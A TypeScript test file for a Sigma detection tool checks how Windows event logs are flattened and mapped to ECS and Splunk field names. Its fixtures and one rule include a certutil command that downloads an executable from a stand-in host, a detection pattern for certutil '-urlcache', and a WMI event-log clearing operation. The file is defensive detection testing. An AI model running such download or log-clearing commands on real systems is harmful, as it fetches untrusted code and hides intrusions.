// Events for the evaluators: SigmaHQ regression events flattened to Sigma's Windows field names,
// and events mapped with the same field mappings detctl applies to a rule's query.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { flattenSigmaHqEvent, mapEvent } from '../../src/evaluate/events.js';
import { compileSigma } from '../../src/evaluate/sigma/index.js';
import { applyMapping, loadMapping, type MappingName } from '../../src/compile/mappings/apply-mapping.js';
import { loadRuleFile } from '../../src/rules/load-rules.js';
import type { Logsource, SigmaRule } from '../../src/rules/sigma/model.js';
import type { FlatEvent } from '../../src/evaluate/types.js';

const fixture = (name: string): FlatEvent =>
  flattenSigmaHqEvent(JSON.parse(readFileSync(join(import.meta.dirname, '..', 'fixtures', 'sigmahq-events', `${name}.json`), 'utf8')));

const PROCESS_CREATION: Logsource = { product: 'windows', category: 'process_creation' };
const SECURITY: Logsource = { product: 'windows', service: 'security' };

test('Sysmon event: EventData and System fields by their Sigma names, attributes as Tag_Attribute', () => {
  const event = fixture('sysmon-process-creation');
  assert.equal(event.Image, 'C:\\Windows\\System32\\certutil.exe');
  assert.equal(event.CommandLine, 'certutil -urlcache -f http://x/a.exe a.exe');
  assert.equal(event.ProcessId, 4460);
  assert.equal(event.EventID, 1);
  assert.equal(event.Channel, 'Microsoft-Windows-Sysmon/Operational');
  assert.equal(event.Computer, 'host1');
  assert.equal(event.Provider_Name, 'Microsoft-Windows-Sysmon');
  assert.equal(event.Execution_ProcessID, 3544);
  assert.equal(event.TimeCreated_SystemTime, '2026-01-02T03:04:05.000000Z');
  assert.equal(event.Correlation, null);
  assert.ok(Object.hasOwn(event, 'Correlation'), 'a null element is a present field');
});

test('the full nested paths are kept too', () => {
  const event = fixture('sysmon-process-creation');
  assert.equal(event['Event.System.EventID'], 1);
  assert.equal(event['Event.EventData.Image'], 'C:\\Windows\\System32\\certutil.exe');
  assert.equal(event['Event.System.Provider.#attributes.Name'], 'Microsoft-Windows-Sysmon');
  assert.equal(event['Event.#attributes.xmlns'], 'http://schemas.microsoft.com/win/2004/08/events/event');
});

test('EventData.Data as a list of named elements; #text of an element; unnamed data', () => {
  const event = fixture('security-data-list');
  assert.equal(event.NewProcessName, 'C:\\Windows\\System32\\whoami.exe');
  assert.equal(event.CommandLine, 'whoami /all');
  assert.equal(event.SubjectUserName, 'alice');
  assert.equal(event.TargetLogonId, null);
  assert.ok(Object.hasOwn(event, 'TargetLogonId'));
  assert.deepEqual(event.Data, ['unnamed one', 'unnamed two']);
  // `<EventID Qualifiers="0">4688</EventID>`: the text is the field, the attribute beside it.
  assert.equal(event.EventID, 4688);
  assert.equal(event.EventID_Qualifiers, '0');
  assert.deepEqual(event['Event.EventData.Data.#attributes.Name'], ['NewProcessName', 'CommandLine', 'SubjectUserName', 'TargetLogonId']);
});

test('UserData: the fields of its element, like EventData', () => {
  const event = fixture('wmi-userdata');
  assert.equal(event.Operation, 'Start IWbemServices::ExecMethod - Win32_NTEventlogFile::cleareventlog');
  assert.equal(event.ClientProcessId, 25920);
  assert.equal(event.Operation_ClientFailure_xmlns, 'http://manifests.microsoft.com/win/2006/windows/WMI');
  assert.equal(event['Event.UserData.Operation_ClientFailure.ResultCode'], '0x80041003');
});

test('names with spaces also without them; nested objects dotted; arrays multi-valued', () => {
  const event = fixture('defender-spaced-names');
  assert.equal(event['Threat Name'], 'Virus:DOS/EICAR_Test_File');
  assert.equal(event.ThreatName, 'Virus:DOS/EICAR_Test_File');
  // A name the event has as written is not overwritten by a stripped one.
  assert.equal(event.SourceName, 'kept as written');
  assert.equal(event['Detection.Path'], 'C:\\x\\eicar.com');
  assert.deepEqual(event['Detection.Tags'], ['a', 'b']);
});

test('the inner Event element is accepted as well; anything else is refused', () => {
  const json = JSON.parse(readFileSync(join(import.meta.dirname, '..', 'fixtures', 'sigmahq-events', 'wmi-userdata.json'), 'utf8'));
  assert.deepEqual(flattenSigmaHqEvent(json.Event), flattenSigmaHqEvent(json));
  assert.throws(() => flattenSigmaHqEvent([1, 2]), TypeError);
  assert.throws(() => flattenSigmaHqEvent('x'), TypeError);
});

test('ecs_windows: renamed names beside the originals, the winlog.event_data prefix, dotted names left alone', () => {
  const event = mapEvent(fixture('sysmon-process-creation'), 'ecs_windows', PROCESS_CREATION);
  assert.equal(event.Image, 'C:\\Windows\\System32\\certutil.exe');
  assert.equal(event['process.executable'], 'C:\\Windows\\System32\\certutil.exe');
  assert.equal(event['process.command_line'], 'certutil -urlcache -f http://x/a.exe a.exe');
  assert.equal(event['process.parent.executable'], 'C:\\Windows\\System32\\cmd.exe');
  assert.equal(event['event.code'], 1);
  assert.equal(event['winlog.channel'], 'Microsoft-Windows-Sysmon/Operational');
  assert.equal(event['winlog.provider_name'], 'Microsoft-Windows-Sysmon');
  // Not renamed by the ECS field mapping: prefixed, as the query's field is.
  assert.equal(event['winlog.event_data.IntegrityLevel'], 'High');
  // Dotted names (the ECS names, the full paths) match the step's unlessFieldMatches `\w+\.`.
  assert.equal(Object.hasOwn(event, 'winlog.event_data.process.executable'), false);
  assert.equal(Object.hasOwn(event, 'winlog.event_data.Event.System.EventID'), false);
});

test('a rename step applies only to the log sources its `when` names', () => {
  const asSecurity = mapEvent(fixture('security-data-list'), 'ecs_windows', SECURITY);
  assert.equal(asSecurity['process.command_line'], 'whoami /all');
  assert.equal(asSecurity['user.name'], 'alice');
  const asLinux = mapEvent(fixture('security-data-list'), 'ecs_windows', { product: 'linux' });
  assert.equal(Object.hasOwn(asLinux, 'process.command_line'), false);
  assert.equal(Object.hasOwn(asLinux, 'event.code'), false);
});

test('field names that are also names of Object.prototype are plain names', () => {
  const event = mapEvent({ constructor: 'x', toString: 'y' }, 'ecs_windows', PROCESS_CREATION);
  assert.equal(event.constructor, 'x');
  assert.equal(event['winlog.event_data.toString'], 'y');
  assert.equal(Object.keys(event).length, 4);
});

test('several fields renamed to one name make it multi-valued', () => {
  const event = mapEvent({ ImageLoaded: 'C:\\a.dll', TargetFilename: 'C:\\b.txt' }, 'ecs_windows', { product: 'windows', category: 'image_load' });
  assert.deepEqual(event['file.path'], ['C:\\a.dll', 'C:\\b.txt']);
});

test('add-condition: the log source value when the event has no such field; an event naming its own keeps it', () => {
  const noChannel = mapEvent({ EventID: 4688 }, 'ecs_windows', SECURITY);
  assert.equal(noChannel['winlog.channel'], 'Security');
  const otherChannel = mapEvent({ EventID: 4688, Channel: 'System' }, 'ecs_windows', SECURITY);
  assert.equal(otherChannel['winlog.channel'], 'System');
  const splunk = mapEvent({ EventID: 4688 }, 'splunk_windows', SECURITY);
  assert.equal(splunk.source, 'WinEventLog:Security');
  assert.equal(splunk.EventCode, 4688);
  assert.equal(Object.hasOwn(mapEvent({ EventID: 1 }, 'splunk_windows', PROCESS_CREATION), 'source'), false);
});

test('set-value: a boolean-like Initiated gets the ECS direction beside its own text', () => {
  const network = { product: 'windows', category: 'network_connection' };
  assert.deepEqual(mapEvent({ Initiated: 'true' }, 'ecs_windows', network)['network.direction'], ['true', 'egress']);
  assert.deepEqual(mapEvent({ Initiated: false }, 'ecs_windows', network)['network.direction'], [false, 'ingress']);
  assert.equal(mapEvent({ Initiated: 'maybe' }, 'ecs_windows', network)['network.direction'], 'maybe');
});

/** A rule's condition mapped, on the event mapped the same way. */
function mappedVerdict(detection: string, logsource: string, mapping: MappingName, event: FlatEvent): boolean {
  const text = `title: Case\nlogsource:\n${logsource}\ndetection:\n${detection}\n`;
  const rule = loadRuleFile({ path: 'r.yml', absolute: 'r.yml' }, text).rule as SigmaRule;
  const query = applyMapping(loadMapping(mapping), rule.logsource, rule.conditions[0]);
  return compileSigma(query).evaluate(mapEvent(event, mapping, rule.logsource)).matched;
}

test('the mapped query finds the mapped event where the rule finds the event (both mappings)', () => {
  const detection = `    sel:\n        EventID: 1\n        Image|endswith: '\\certutil.exe'\n        CommandLine|contains: '-urlcache'\n        IntegrityLevel: High\n    condition: sel`;
  const logsource = '    product: windows\n    category: process_creation';
  const hit = fixture('sysmon-process-creation');
  const miss = { ...hit, IntegrityLevel: 'Medium' };
  for (const mapping of ['ecs_windows', 'splunk_windows'] as const) {
    assert.equal(mappedVerdict(detection, logsource, mapping, hit), true, mapping);
    assert.equal(mappedVerdict(detection, logsource, mapping, miss), false, mapping);
  }
  const security = `    sel:\n        EventID: 4688\n        CommandLine|contains: 'whoami'\n    condition: sel`;
  for (const mapping of ['ecs_windows', 'splunk_windows'] as const) {
    assert.equal(mappedVerdict(security, '    product: windows\n    service: security', mapping, fixture('security-data-list')), true, mapping);
  }
  const network = `    sel:\n        Initiated: true\n    condition: sel`;
  assert.equal(mappedVerdict(network, '    product: windows\n    category: network_connection', 'ecs_windows', { Initiated: 'true' }), true);
  assert.equal(mappedVerdict(network, '    product: windows\n    category: network_connection', 'ecs_windows', { Initiated: 'false' }), false);
});
